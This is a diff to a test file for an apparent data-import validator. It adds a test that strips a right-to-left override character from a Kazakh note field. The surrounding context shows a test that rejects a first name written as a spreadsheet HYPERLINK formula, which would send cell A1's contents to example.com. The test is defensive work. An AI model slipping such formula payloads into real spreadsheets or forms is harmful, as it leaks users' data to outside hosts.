@@ -170,6 +170,13 @@ def test_control_characters_are_taken_out_with_a_notice():
     assert faults(found) == [("I2", "project_title", "control_characters", "notice")]
 
 
+def test_control_characters_are_taken_out_of_long_texts_too():
+    found = read(note="бір\u202e\nекі")
+    assert found.values == replace(VALUES, note="бір\nекі")
+    assert faults(found) == [("I2", "note", "control_characters", "notice")]
+    assert faults(read(note="бір\nекі")) == []
+
+
 def test_a_name_that_looks_like_a_formula_refuses_the_row():
     found = read(first_name='=HYPERLINK("http://example.com/?q="&A1,"Дінмұхаммед")')
     assert (found.values, faults(found)) == (None, [("C2", "first_name", "formula_text", "error")])
